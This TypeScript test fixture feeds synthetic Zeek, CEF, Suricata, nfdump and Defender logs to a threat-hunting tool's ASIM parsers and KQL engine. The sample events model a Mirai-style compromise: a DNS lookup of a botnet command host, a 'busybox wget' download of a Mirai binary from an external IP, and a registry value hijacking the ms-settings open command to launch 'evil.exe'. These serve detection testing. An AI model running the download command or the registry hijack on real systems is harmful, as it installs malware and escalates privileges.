/**
 * Small logs of every source the ASIM parsers read, written to a scratch folder and loaded through the
 * real readers (as `telltale hunt DIR` would), with what each should become.
 */
import { Store } from '../../src/store/db.js';
import { ingestPaths } from '../../src/telemetry/ingest.js';
import { runKql } from '../../src/kql/index.js';

export const NOW = new Date('2026-05-22T00:00:00Z');

const ZEEK_CONN = `#separator \\x09
#set_separator\t,
#empty_field\t(empty)
#unset_field\t-
#path\tconn
#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tservice\tduration\torig_bytes\tresp_bytes\tconn_state\thistory\torig_pkts\tresp_pkts
#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tinterval\tcount\tcount\tstring\tstring\tcount\tcount
1779321721.000000\tCz1\t10.20.0.17\t40001\t203.0.113.5\t23\ttcp\t-\t0.5\t10\t20\tSF\tShADadFf\t5\t4
1779321722.000000\tCz2\t10.20.0.17\t40002\t203.0.113.6\t23\ttcp\t-\t0.1\t0\t0\tREJ\tSr\t1\t1
1779321723.000000\tCz3\t198.51.100.7\t50000\t10.20.0.5\t7547\ttcp\thttp\t1.25\t300\t4000\tSF\tShADadFf\t8\t9
`;

const ZEEK_DNS = `#separator \\x09
#set_separator\t,
#empty_field\t(empty)
#unset_field\t-
#path\tdns
#fields\tts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\tproto\tquery\tqtype_name\trcode\tanswers
#types\ttime\tstring\taddr\tport\taddr\tport\tenum\tstring\tstring\tcount\tvector[string]
1779321730.000000\tDz1\t10.20.0.17\t5353\t10.20.0.2\t53\tudp\tcnc.miraibotnet.su\tA\t0\t176.65.139.7
1779321731.000000\tDz2\t10.20.0.17\t5354\t10.20.0.2\t53\tudp\tnope.example\tA\t3\t-
`;

const CEF = [
  '<134>May 21 00:03:03 fw-edge-01 CEF:0|Acme|EdgeFirewall|7.2|200|Connection allowed|3|rt=1779321783000 src=10.20.0.21 spt=34892 dst=140.82.121.4 dpt=443 proto=TCP act=accept dvchost=fw-edge-01 cs1Label=Rule cs1=allow-out',
  '<134>May 21 00:04:03 fw-edge-01 CEF:0|Acme|EdgeFirewall|7.2|300|Connection denied|7|rt=1779321843000 src=198.51.100.9 spt=4444 dst=10.20.0.17 dpt=23 proto=TCP act=deny dvchost=fw-edge-01 cs1Label=Rule cs1=deny-telnet',
].join('\n');

const SURICATA = [
  '{"timestamp":"2026-05-21T00:05:00.000000+0000","flow_id":111,"event_type":"flow","src_ip":"10.20.0.30","src_port":50001,"dest_ip":"192.0.2.10","dest_port":80,"proto":"TCP","app_proto":"http","flow":{"pkts_toserver":3,"pkts_toclient":2,"bytes_toserver":200,"bytes_toclient":900,"start":"2026-05-21T00:05:00.000000+0000","end":"2026-05-21T00:05:01.000000+0000","state":"closed"}}',
  '{"timestamp":"2026-05-21T00:05:00.500000+0000","flow_id":111,"event_type":"alert","src_ip":"10.20.0.30","src_port":50001,"dest_ip":"192.0.2.10","dest_port":80,"proto":"TCP","alert":{"action":"allowed","signature_id":2000001,"signature":"ET TEST","category":"test","severity":2}}',
].join('\n');

const NFDUMP = `ts,te,td,sa,da,sp,dp,pr,flg,ipkt,ibyt,opkt,obyt
2026-05-21 00:06:00,2026-05-21 00:06:01,1.000,10.20.0.40,203.0.113.50,41000,23,TCP,....S.,1,60,0,0
`;

const DEFENDER_NET = JSON.stringify([
  {
    Timestamp: '2026-05-21T00:07:00.000Z',
    DeviceId: 'dev-1',
    DeviceName: 'ws-1',
    ActionType: 'ConnectionSuccess',
    LocalIP: '10.20.0.11',
    LocalPort: 50123,
    RemoteIP: '151.101.1.69',
    RemotePort: 443,
    Protocol: 'Tcp',
    InitiatingProcessFileName: 'curl',
    InitiatingProcessFolderPath: '/usr/bin/curl',
    InitiatingProcessAccountName: 'svc',
    ReportId: 7,
  },
  {
    Timestamp: '2026-05-21T00:08:00.000Z',
    DeviceId: 'dev-1',
    DeviceName: 'ws-1',
    ActionType: 'InboundConnectionAccepted',
    LocalIP: '10.20.0.11',
    LocalPort: 22,
    RemoteIP: '10.20.0.99',
    RemotePort: 60000,
    Protocol: 'Tcp',
    InitiatingProcessFileName: 'sshd',
    ReportId: 8,
  },
]);

const DEFENDER_FILES = `Timestamp,DeviceId,DeviceName,ActionType,FileName,FolderPath,SHA256,SHA1,MD5,FileSize,InitiatingProcessFileName,InitiatingProcessAccountDomain,InitiatingProcessAccountName,ReportId
2026-05-21T00:21:14.000Z,dev-2,cpe-gw-17,FileCreated,mirai.arm7,/tmp/mirai.arm7,${'a'.repeat(64)},${'b'.repeat(40)},${'c'.repeat(32)},8192,wget,,root,2000
`;

const DEFENDER_PROCESSES = JSON.stringify([
  {
    Timestamp: '2026-05-21T00:22:00.000Z',
    DeviceId: 'dev-2',
    DeviceName: 'cpe-gw-17',
    ActionType: 'ProcessCreated',
    FileName: 'busybox',
    FolderPath: '/bin/busybox',
    ProcessCommandLine: 'busybox wget http://176.65.139.7/mirai.arm7',
    ProcessId: 4242,
    AccountDomain: 'cpe',
    AccountName: 'root',
    InitiatingProcessFileName: 'sh',
    InitiatingProcessFolderPath: '/bin/sh',
    InitiatingProcessId: 4000,
    InitiatingProcessParentFileName: 'telnetd',
    SHA256: 'd'.repeat(64),
    ReportId: 3000,
  },
]);

const DEFENDER_REGISTRY = JSON.stringify([
  {
    Timestamp: '2026-05-21T00:23:00.000Z',
    DeviceId: 'dev-3',
    DeviceName: 'ws-7',
    ActionType: 'RegistryValueSet',
    RegistryKey: 'HKEY_CURRENT_USER\\Software\\Classes\\ms-settings\\shell\\open\\command',
    RegistryValueType: 'String',
    RegistryValueName: '(Default)',
    RegistryValueData: 'cmd.exe /c start evil.exe',
    InitiatingProcessAccountDomain: 'corp',
    InitiatingProcessAccountName: 'alice',
    InitiatingProcessAccountSid: 'S-1-5-21-1',
    InitiatingProcessFileName: 'reg.exe',
    InitiatingProcessFolderPath: 'C:\\Windows\\System32\\reg.exe',
    InitiatingProcessId: 5100,
    InitiatingProcessParentFileName: 'cmd.exe',
    InitiatingProcessParentId: 5000,
    ReportId: 4000,
  },
]);

/** file name → content: one file per source. */
export const LOGS: Record<string, string> = {
  'conn.log': ZEEK_CONN,
  'dns.log': ZEEK_DNS,
  'fw.cef.log': CEF,
  'eve.json': SURICATA,
  'flows.nfdump.csv': NFDUMP,
  'DeviceNetworkEvents.json': DEFENDER_NET,
  'DeviceFileEvents.csv': DEFENDER_FILES,
  'DeviceProcessEvents.json': DEFENDER_PROCESSES,
  'DeviceRegistryEvents.json': DEFENDER_REGISTRY,
};

/** Sessions in LOGS: 3 Zeek + 2 CEF + 1 Suricata flow (its alert is not one) + 1 nfdump + 2 Defender. */
export const SESSIONS = 9;

export async function loadedStore(dir: string): Promise<Store> {
  const store = await Store.open();
  await ingestPaths(store, [dir], {});
  return store;
}

export async function rows(store: Store, query: string, watchlistsDir?: string) {
  const result = await runKql(store, query, { now: NOW, watchlistsDir });
  return result.rows.map((r) => {
    const { _Source, ...rest } = r;
    return { ...rest, _Source } as Record<string, unknown>;
  });
}

/** How many rows a query returns. */
export async function countOf(store: Store, query: string): Promise<number> {
  return Number((await rows(store, `${query} | count`))[0].Count);
}
